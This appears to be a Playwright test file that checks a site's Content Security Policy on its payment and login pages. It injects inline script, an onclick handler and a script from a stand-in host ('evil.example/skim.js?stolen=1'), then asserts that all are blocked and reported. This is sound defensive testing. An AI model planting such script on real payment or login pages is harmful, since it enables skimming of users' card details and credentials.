import { chromium, type Page } from '@playwright/test';
import { database } from '../books.ts';
import { startEdge, type Edge } from '../edge/start-edge.ts';
import { expect, test } from '../fixtures.ts';
import { OUR_CHROMIUM } from '../our-chromium.ts';

const ONCE = { tag: '@pc' };

let edge: Edge;
test.beforeAll(async () => {
  edge = await startEdge('https');
});
test.afterAll(() => edge.stop());

/** Reports are sent by the browser itself, which believes our certificate only when told so, and waits a minute with them unless told not to. */
const REPORTING = ['--ignore-certificate-errors', '--short-reporting-delay'];

async function visit(look: (page: Page) => Promise<void>): Promise<void> {
  const browser = await chromium.launch({ ...OUR_CHROMIUM, args: [...OUR_CHROMIUM.args, ...REPORTING] });
  try {
    // What a person's browser has by itself: without it no report is sent.
    const context = await browser.newContext({ permissions: ['background-sync'] });
    await look(await context.newPage());
  } finally {
    await browser.close();
  }
}

interface Kept {
  readonly blocked: string;
  readonly directive: string;
}

/** What browsers told us of a page. */
async function violationsOf(page: string): Promise<Kept[]> {
  return database()<Kept[]>`
    select distinct body->>'blocked' as blocked, body->>'directive' as directive from telemetry_records
    where name = 'csp-violation' and body->>'page' = ${page} order by 1`;
}

/** Runs in the page: what somebody would plant there. */
function plant(foreign: string): void {
  const inline = document.createElement('script');
  inline.textContent = 'globalThis.planted = "inline"';
  const script = document.createElement('script');
  script.src = foreign;
  const button = document.createElement('button');
  button.setAttribute('onclick', 'globalThis.planted = "attribute"');
  document.body.append(inline, script, button);
  button.click();
}

for (const path of ['/pay', '/login']) {
  test(`a planted script does not run on ${path}, and we are told of it`, ONCE, async () => {
    const foreign = `${edge.url.replace('127.0.0.1', 'evil.example')}/skim.js`;
    await visit(async (page) => {
      await page.goto(`${edge.url}${path}?session_key=nobodys`);
      await page.evaluate(plant, `${foreign}?stolen=1`);
      expect(await page.evaluate(() => (globalThis as { planted?: string }).planted)).toBeUndefined();
      await expect(async () => {
        expect(await violationsOf(`${edge.url}${path}`)).toEqual([
          { blocked: foreign, directive: 'script-src-elem' },
          { blocked: 'inline', directive: 'script-src-attr' },
          { blocked: 'inline', directive: 'script-src-elem' },
        ]);
      }).toPass({ timeout: 20_000 });
    });
  });
}

test('no page of ours breaks its own policy', ONCE, async () => {
  const complaints: string[] = [];
  await visit(async (page) => {
    page.on('console', (message) => {
      if (message.type() === 'error') complaints.push(`${page.url()} ${message.text()}`);
    });
    for (const path of [
      '/',
      '/pay',
      '/recharge-list',
      '/pay-step',
      '/login',
      '/fines',
      '/feedback',
      '/share.html',
    ])
      await page.goto(`${edge.url}${path}`, { waitUntil: 'networkidle' });
  });
  expect(complaints).toEqual([]);
});
